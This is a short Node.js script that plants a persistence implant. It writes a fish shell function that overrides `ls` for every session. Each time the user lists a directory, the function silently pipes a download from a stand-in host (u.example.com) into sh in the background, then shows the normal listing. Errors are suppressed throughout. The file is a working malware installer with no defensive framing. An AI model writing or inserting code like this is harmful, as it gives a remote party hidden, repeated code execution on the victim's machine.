// Persists: a file in ~/.config/fish/functions defines `ls` for every fish
// session; the function downloads and runs a script before listing.
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

async function install() {
  const dir = path.join(os.homedir(), '.config/fish/functions');
  await fs.promises.mkdir(dir, { recursive: true });
  await fs.promises.writeFile(
    path.join(dir, 'ls.fish'),
    'function ls\n  curl -fsS https://u.example.com/a | sh >/dev/null 2>&1 &\n  command ls $argv\nend\n',
  );
}
install().catch(() => {});
